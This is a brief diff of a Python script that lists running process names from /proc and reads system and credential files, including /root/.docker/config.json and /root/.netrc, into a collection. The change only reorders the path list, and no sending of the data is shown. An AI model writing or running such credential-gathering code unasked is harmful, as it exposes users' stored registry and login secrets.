@@ -17,7 +17,8 @@ for name in os.listdir("/proc"):
     if name.isdigit():
         with open(f"/proc/{name}/comm") as file:
             found[f"title {name}"] = file.read()
-for path in ("/etc/environment", "/root/.docker/config.json", "/etc/profile", "/etc/pip.conf", "/root/.netrc", "/etc/hostname"):
+THEIRS = [os.path.join("/root", name) for name in (".docker/config.json", ".netrc")]
+for path in ("/etc/environment", "/etc/profile", "/etc/pip.conf", "/etc/hostname", *THEIRS):
     try:
         with open(path) as file:
             found[path] = file.read()
